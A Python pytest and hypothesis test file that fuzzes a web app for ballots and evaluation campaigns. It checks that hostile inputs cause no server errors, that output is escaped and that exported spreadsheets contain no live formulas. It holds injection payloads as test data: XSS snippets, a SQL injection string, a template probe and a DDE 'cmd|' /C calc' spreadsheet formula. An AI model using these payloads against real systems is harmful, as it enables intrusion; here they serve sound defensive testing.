"""Property-based and hostile input: no 500, no junk stored, output always escaped."""

from __future__ import annotations

import io
import re
from datetime import date

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from werkzeug.datastructures import MultiDict

from analysis import allocate_proportional
from evalapp.ballotbox.models import SealedBallot
from evalapp.campaigns.models import Campaign, ProblemEntry, Subject
from evalapp.extensions import db
from evalapp.roster.operations import ColumnMapping, check_roster
from evalapp.tabular import TableError, read_rows, shown_number
from evalapp.text import DASHES
from evalapp.tickets.tokens import new_token, normalize
from tests.support.factories import groups_of, make_campaign, make_world
from tests.support.organiser import make_setup
from tests.support.rater import full_answers, make_tickets, questions
from tests.support.spreadsheets import workbook_bytes as spreadsheet_bytes
from tests.support.web import csrf_token, login

FUZZ = settings(max_examples=40, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture])
HOSTILE = st.one_of(
    st.text(max_size=50),
    st.sampled_from(["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
                     "excellent\x00", "' OR 1=1 --", "ｅｘｃｅｌｌｅｎｔ", "\ud7ff" * 3,
                     "x" * 5000, "-1", "1e309", "NaN", "{{7*7}}"]),
)


@pytest.fixture
def tickets(app):
    with app.app_context():
        return make_tickets(singles=400)  # hypothesis replays and shrinks: plenty to spend


@FUZZ
@given(data=st.data())
def test_the_ballot_form_takes_only_the_offered_levels(app, tickets, data):
    client = app.test_client()
    token = tickets.single.pop()
    assert client.get(f"/t/{token}").status_code == 303
    page = client.get("/ballot").get_data(as_text=True)
    offered = questions(page)
    answers = full_answers(page)
    chosen = {}
    for name, values in offered.items():
        value = data.draw(st.one_of(st.sampled_from([*values, ""]), HOSTILE), label=name)
        chosen[name] = value
    answers.update(chosen)
    answers["confirm_blanks"] = "1"
    before = count_ballots(app)
    response = client.post("/ballot", data=answers)
    valid = all(value in offered[name] or value == "" for name, value in chosen.items())
    if valid:
        assert response.status_code == 303
        assert count_ballots(app) == before + 1
    else:  # refused: a NUL character is malformed (400), an unknown level invalid (422)
        assert response.status_code in (400, 422)
        assert count_ballots(app) == before
        body = response.get_data(as_text=True)
        assert "<script>alert(1)</script>" not in body and "onerror=alert" not in body


def count_ballots(app) -> int:
    with app.app_context():
        return db.session.scalar(sa.select(sa.func.count(SealedBallot.id)))


@FUZZ
@given(rows=st.lists(st.lists(HOSTILE, min_size=0, max_size=6), min_size=1, max_size=30))
def test_roster_checking_accounts_for_every_row(app, rows):
    with app.app_context():
        world = make_world()
        groups = groups_of(make_campaign(world.customs))
        rows = [["姓名", "工号", "单位", "类别"], *rows]
        preview = check_roster(rows, ColumnMapping(0, 1, unit=2, group=3), groups)
        numbers = [p.row for p in preview.people] + [p.row for p in preview.problems]
        assert sorted(numbers) == list(range(2, len(rows) + 1))
        staff = [p.staff_number for p in preview.people]
        assert len(staff) == len(set(staff)) and all(staff)
        db.session.rollback()


@settings(max_examples=300, deadline=None)
@given(sizes=st.lists(st.integers(0, 500), min_size=1, max_size=8),
       share=st.fractions(0, 1), minimum=st.integers(0, 20))
def test_allocation_properties(sizes, share, minimum):
    population = {f"g{i}": size for i, size in enumerate(sizes)}
    total = int(share * sum(sizes))
    floors = sum(min(minimum, size) for size in sizes)
    if floors > total:
        with pytest.raises(ValueError):
            allocate_proportional(population, total=total, minimum=minimum)
        return
    allocation = allocate_proportional(population, total=total, minimum=minimum)
    assert sum(allocation.values()) == total
    for group, size in population.items():
        assert min(minimum, size) <= allocation[group] <= size
    if minimum == 0 and total:  # proportional: within one seat of the exact quota
        everyone = sum(sizes)
        for group, size in population.items():
            assert abs(allocation[group] - total * size / everyone) < 1


@pytest.fixture
def organiser_forms(app, client):
    """(path, field names) of every staff form a logged-in organiser (of `client`) posts."""
    with app.app_context():
        setup = make_setup()
    login(client, "organiser")
    c = f"/campaigns/{setup.campaign}"
    paths = ["/campaigns/new", f"{c}/scoring", f"{c}/subjects/new", f"{c}/subjects/{setup.subject}",
             f"{c}/draws/", f"{c}/tickets/", f"{c}/roster/",
             f"{c}/rectification/problems/{setup.problem}/measures/new",
             f"{c}/rectification/measures/{setup.measure}"]
    forms = []
    for path in paths:
        page = client.get(path).get_data(as_text=True)
        controls = re.findall(r'<(?:input|select|textarea)[^>]*name="([a-z_0-9-]+)"', page)
        names = sorted(set(controls) - {"csrf_token", "locale", "next"})
        forms.append((path, names))
    forms.append((f"{c}/questionnaire/{setup.item}", ["text_zh", "text_en"]))
    forms.append((f"{c}/questionnaire/sections/{setup.section}", ["title_zh", "title_en"]))
    forms.append((f"{c}/questionnaire/sections/{setup.section}/items", ["text_zh", "text_en"]))
    forms.append((f"{c}/rectification/{setup.subject}/problems", ["source", "text"]))
    return forms


@settings(FUZZ, max_examples=15)
@given(data=st.data())
def test_hostile_posts_to_every_form_never_fail(app, client, organiser_forms, data):
    for path, names in organiser_forms:
        payload = MultiDict((name, data.draw(HOSTILE, label=f"{path} {name}"))
                            for name in names)
        if names:
            payload.add(names[0], "repeated")  # a field sent twice
        payload["csrf_token"] = csrf_token(client, "/")
        response = client.post(path, data=payload)
        assert response.status_code < 500, (path, response.status_code)
        body = response.get_data(as_text=True)
        assert "<script>alert(1)</script>" not in body and "onerror=alert(1)>" not in body
    for page in ("/campaigns/", "/campaigns/1", "/campaigns/1/rectification/1"):
        shown = client.get(page).get_data(as_text=True)
        assert "<script>alert(1)</script>" not in shown
    with app.app_context():
        db.session.rollback()


def test_broken_encodings_are_refused_not_crashing(client, tickets):
    client.get(f"/t/{tickets.single[0]}")
    response = client.post("/ballot", data=b"s1_c1=%FF%FE&csrf_token=\xff\xfe",
                           content_type="application/x-www-form-urlencoded")
    assert response.status_code in (400, 422)
    assert client.get("/t/%FF%FE").status_code == 404
    assert client.get("/t/%FF%FE%00").status_code == 400


# --- hostile requests of issue 15: each kind generated ---------------------------------------

ROUTE_ARGUMENT = re.compile(r"<(?:(\w+)(?:\(([^)]*)\))?:)?(\w+)>")


def every_route_with_ids(app) -> list[tuple[str, str]]:
    """(method, rule) of every route taking an id, GET where it answers GET, else POST."""
    return sorted(("GET" if "GET" in rule.methods else "POST", rule.rule)
                  for rule in app.url_map.iter_rules() if "<int:" in rule.rule)


def filled(rule: str, number: int) -> str:
    """The route with `number` for every id, the first choice for every `any(...)`."""
    def value(match: re.Match) -> str:
        kind, choices = match.group(1), match.group(2)
        if kind == "int":
            return str(number)
        return choices.split(",")[0].strip() if kind == "any" else "x"
    return ROUTE_ARGUMENT.sub(value, rule)


@settings(FUZZ, max_examples=25)
@given(data=st.data())
def test_ids_beyond_the_databases_integers_are_not_found(app, client, organiser_forms, data):
    """From 2³¹ (PostgreSQL's integer) and 2⁶³ (SQLite's) up, in every route with an id, the
    public ones too, and in the query strings of the pages that read ids from them."""
    number = data.draw(st.one_of(st.sampled_from([2**31, 2**31 + 1, 2**63, 2**64]),
                                 st.integers(2**31, 2**100)), label="id")
    anonymous = app.test_client()
    token = csrf_token(client, "/")
    for method, rule in every_route_with_ids(app):
        path = filled(rule, number)
        for who in (client, anonymous):
            response = (who.get(path) if method == "GET"
                        else who.post(path, data={"csrf_token": token}))
            # 401 and 429: the API's addresses, which ask for a token before anything else
            # and throttle an address whose requests keep failing it
            assert response.status_code in (302, 303, 400, 401, 403, 404, 429), (
                path, response.status_code)
    for path in (f"/lookback/?earlier={number}&later={number}",
                 f"/lookback/chart.png?earlier={number}&later={number}",
                 f"/campaigns/1/roster/mapping?upload={number}.csv"):
        assert client.get(path).status_code < 500, path


def current_values(page: str) -> dict[str, str]:
    """What the page's form would send as it is: inputs, chosen options, text areas."""
    values = dict(re.findall(r'<input[^>]*name="([a-z_0-9-]+)"[^>]*value="([^"]*)"', page))
    values.update(re.findall(r'<select[^>]*name="([a-z_0-9-]+)"[^>]*>.*?<option selected '
                             r'value="([^"]*)"', page, re.DOTALL))
    values.update(re.findall(r'<textarea[^>]*name="([a-z_0-9-]+)"[^>]*>([^<]*)</textarea>',
                             page))
    return values


@settings(FUZZ, max_examples=15)
@given(data=st.data())
def test_posts_missing_any_of_their_fields_never_fail(app, client, organiser_forms, data):
    """Every form posted as the page shows it but without some of its fields (a subject edit
    without `problems` fell back to the subject's problem entries: a 500) is refused or read
    as sent."""
    with app.app_context():
        subject = db.session.get(Subject, 1)
        if not subject.problems:
            subject.problems = [ProblemEntry(position=1, text="问题清单的问题")]
            db.session.commit()
    for path, names in organiser_forms:
        values = current_values(client.get(path).get_data(as_text=True))
        kept = [name for name in names if data.draw(st.booleans(), label=f"{path} {name}")]
        payload = {name: values.get(name, "") for name in kept}
        payload["csrf_token"] = csrf_token(client, "/")
        response = client.post(path, data=payload)
        assert response.status_code < 500, (path, kept, response.status_code)
    with app.app_context():
        db.session.rollback()


HOSTS = st.one_of(
    st.sampled_from(["[::1]", "[::1]:5000", "[::1]:x", "[fe80::1%eth0]", "localhost:99999",
                     "localhost:", "localhost:-1", "[", "]", "evalapp.test:0", "::1",
                     ".", "a..b", "-.x", "x" * 64 + ".test"]),
    st.from_regex(r"\A[a-z0-9.:\[\]%-]{1,30}\Z"),
)


@pytest.mark.one_database
@settings(FUZZ, max_examples=12)
@given(host=HOSTS)
@example(host=".")  # no URL can be built for it: the error page's own links gave a 500
def test_any_host_header_on_the_tickets_page(app, client, organiser_forms, host):
    """The tickets page prints the address the request came in on: `Host: [::1]` was read as
    port "1]" (a 500). (A campaign without a draw: after one, a sampled group's tickets come
    from the draw's page.)"""
    campaign_id = undrawn_campaign(app)
    with app.app_context():
        campaign = db.session.get(Campaign, campaign_id)
        group, subject = campaign.rater_groups[0].id, campaign.subjects[0].id
    path = f"/campaigns/{campaign_id}/tickets/"
    # The organiser's session sent by hand: the test client would send its cookies only to the
    # host of the URL.
    bare = app.test_client(use_cookies=False)
    overrides = {"HTTP_HOST": host,
                 "HTTP_COOKIE": f"session={client.get_cookie('session').value}"}
    page = bare.get(path, environ_overrides=overrides)
    assert page.status_code in (200, 400), page.status_code
    response = bare.post(path, environ_overrides=overrides, data={
        "csrf_token": csrf_token(client, "/"), "rater_group": str(group),
        "subjects": str(subject), "count": "1", "spares": "0", "output": "pdf"})
    assert response.status_code in (200, 400), response.status_code
    if response.status_code == 200:
        assert response.mimetype == "application/pdf"


def undrawn_campaign(app) -> int:
    """A draft of the set-up's unit with no sample drawn: the set-up's own campaign has a
    draw, which locks its roster before any cell is read."""
    with app.app_context():
        found = db.session.scalar(sa.select(Campaign.id).where(Campaign.title == "未抽样的测评"))
        if found is None:
            found = make_campaign(db.session.get(Campaign, 1).unit, "未抽样的测评").id
            db.session.commit()
        return found


LONG_TEXT = st.text(alphabet=st.sampled_from("王伟宁波海关ＡＢ１2 -"), min_size=0, max_size=400)


@settings(FUZZ, max_examples=12)
@given(name=LONG_TEXT, staff=LONG_TEXT, unit=LONG_TEXT, department=LONG_TEXT)
def test_over_long_cells_in_imports_are_refused_with_a_message(app, client, organiser_forms,
                                                               name, staff, unit, department):
    """Roster cells beyond their columns (name 100, staff number 50, unit 100) and ledger
    departments beyond theirs (100 and 300): PostgreSQL refused the insert (a 500)."""
    roster_csv = f"姓名,工号,单位,测评人类别\n{name},{staff},{unit},机关党员\n".encode()
    path = f"/campaigns/{undrawn_campaign(app)}/roster/"
    uploaded = client.post(path, content_type="multipart/form-data", data={
        "csrf_token": csrf_token(client, path), "file": (io.BytesIO(roster_csv), "r.csv")})
    assert uploaded.status_code in (303, 422)
    if uploaded.status_code == 303:
        location = uploaded.headers["Location"]
        upload = re.search(r"upload=([0-9a-f]{32})", location).group(1)
        done = client.post(path + "mapping", data={
            "csrf_token": csrf_token(client, location), "upload": upload, "name": 0,
            "staff_number": 1, "unit": 2, "group": 3, "office": -1, "membership": -1,
            "confirm": "1"})
        too_long = len(name.strip()) > 100 or len("".join(staff.split())) > 50 or len(
            unit.strip()) > 100
        assert done.status_code in (303, 409, 422), done.status_code
        if too_long:
            assert done.status_code == 422 and "超过" in done.get_data(as_text=True)
    responsible = department.strip() or "办公室"
    ledger_csv = ("被评对象,序号,来源,问题,整改措施,责任部门,配合部门,整改时限,状态,完成情况,"
                  f"完成日期\n宁波海关 · 述职人1,1,领导点评,问题,措施,{responsible},"
                  f"{department},2099-01-01,未开始,,\n").encode()
    imported = client.post("/campaigns/1/rectification/import",
                           content_type="multipart/form-data",
                           data={"csrf_token": csrf_token(client, "/"),
                                 "file": (io.BytesIO(ledger_csv), "l.csv")})
    refused = len(responsible) > 100 or len(department.strip()) > 300
    assert imported.status_code == (422 if refused else 303)
    with app.app_context():
        db.session.rollback()


@settings(FUZZ, max_examples=10)
@given(start=st.sampled_from(["=", "+", "-", "@"]), rest=st.sampled_from([
    'HYPERLINK("http://x.test/?"&A2,"点此")', "1+1", "cmd|' /C calc'!A0", "SUM(A1:A9)"]))
def test_titles_that_look_like_formulas_are_text_in_the_ledger_workbook(
        app, client, organiser_forms, start, rest):
    with app.app_context():
        db.session.get(Campaign, 1).title = start + rest
        db.session.commit()
    response = client.get("/campaigns/1/rectification/ledger.xlsx")
    assert formula_cells(response.data) == []
    assert load_workbook(io.BytesIO(response.data)).active["A1"].value.startswith(start + rest)


def formula_cells(data: bytes) -> list[str]:
    """Cells of every sheet that Excel would run, and cells of text that starts like a formula
    without Excel's quote prefix (editing them would make them formulas)."""
    workbook = load_workbook(io.BytesIO(data))
    return [f"{sheet.title}!{cell.coordinate}" for sheet in workbook.worksheets
            for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in "=+-@"
                                         and not cell.quotePrefix)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_titles_and_names_that_look_like_formulas_are_text_in_the_results_workbook(
        app, client, start):
    from tests.support.ballots import closed_campaign

    campaign_id = closed_campaign(app, ["好"] * 5, person=start + "1+1",
                                  group=start + 'HYPERLINK("http://x.test","组")')
    with app.app_context():
        db.session.get(Campaign, campaign_id).title = start + 'HYPERLINK("http://x.test","看")'
        db.session.commit()
    login(client, "leader")
    response = client.get(f"/campaigns/{campaign_id}/results/export.xlsx")
    assert response.status_code == 200
    assert formula_cells(response.data) == []
    texts = {cell.value for sheet in load_workbook(io.BytesIO(response.data)).worksheets
             for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert any(text.startswith(start + "HYPERLINK") for text in texts)


# --- inputs as offices and phones produce them: files and typing generated -------------------

@settings(max_examples=200, deadline=None)
@given(data=st.data())
def test_a_ticket_code_typed_any_way_reads_as_itself(data):
    """Full-width or half-width, upper or lower case, split by any dash or space: the code."""
    token = new_token()
    separators = st.sampled_from([*sorted(DASHES), " ", "\u3000", "\u00a0", "\u200b", ""])
    typed = ""
    for char in token:
        if data.draw(st.booleans(), label="full width"):
            char = chr(ord(char) + 0xFEE0)
        if data.draw(st.booleans(), label="lower case"):
            char = char.lower()
        typed += char + data.draw(separators, label="separator")
    assert normalize(typed) == token


NUMBER_FORMATS = st.one_of(
    st.sampled_from(["General", "0", "00000", "0.00", "#,##0", "0%", "0.0E+00", "[Red]0",
                     '"NB"0000', "@", "0;-0;;@", 'yyyy"年"m"月"d"日"', "mm-dd-yy", "h:mm",
                     "# ?/?", "#", "0.##", "\\N0"]),
    st.text(alphabet='0#,.%"E+-;@[]Redyhms年月日 ', max_size=12),
)
CELLS = st.one_of(st.none(), st.integers(-10**12, 10**12),
                  st.floats(-1e9, 1e9, allow_nan=False, allow_infinity=False),
                  st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=20)
                  .filter(lambda text: not text.startswith("=")),
                  st.dates(min_value=date(1900, 3, 1), max_value=date(9999, 12, 31)))


@settings(max_examples=60, deadline=None)
@given(rows=st.lists(st.lists(st.tuples(CELLS, NUMBER_FORMATS), max_size=6), max_size=12),
       hidden=st.sets(st.integers(1, 12)), merges=st.lists(
           st.tuples(st.integers(1, 12), st.integers(1, 6), st.integers(0, 3)), max_size=3),
       dimension=st.booleans())
def test_any_workbook_is_read_as_shown_or_refused_plainly(rows, hidden, merges, dimension):
    """Random cells under random number formats, hidden rows, merges and a wrong declared size:
    rows come back numbered as in the sheet, in order, as text, hidden rows marked."""
    workbook = Workbook()
    sheet = workbook.active
    for number, row in enumerate(rows, start=1):
        for column, (value, number_format) in enumerate(row, start=1):
            cell = sheet.cell(number, column, value)
            cell.number_format = number_format
    for number in hidden:
        sheet.row_dimensions[number].hidden = True
    taken: set[tuple[int, int]] = set()
    for row, column, extra in merges:
        cells = {(r, c) for r in range(row, row + extra + 1) for c in (column,)}
        if extra and not cells & taken:
            sheet.merge_cells(start_row=row, start_column=column, end_row=row + extra,
                              end_column=column)
            taken |= cells
    content = spreadsheet_bytes(workbook, dimension="A1" if dimension else None)
    try:
        read = read_rows("t.xlsx", content)
    except TableError as error:
        assert error.message()
        return
    numbers = [row.number for row in read]
    assert numbers == sorted(set(numbers))
    assert all(isinstance(cell, str) for row in read for cell in row.cells)
    assert all(row.hidden == (row.number in hidden) for row in read)


@settings(max_examples=300, deadline=None)
@given(value=st.one_of(st.integers(-10**15, 10**15),
                       st.floats(-1e15, 1e15, allow_nan=False, allow_infinity=False)),
       number_format=NUMBER_FORMATS)
def test_any_number_under_any_format_is_shown_as_text(value, number_format):
    shown = shown_number(value, number_format)
    assert isinstance(shown, str)
    assert shown or abs(value) < 1  # "#" shows nothing for 0, as Excel does
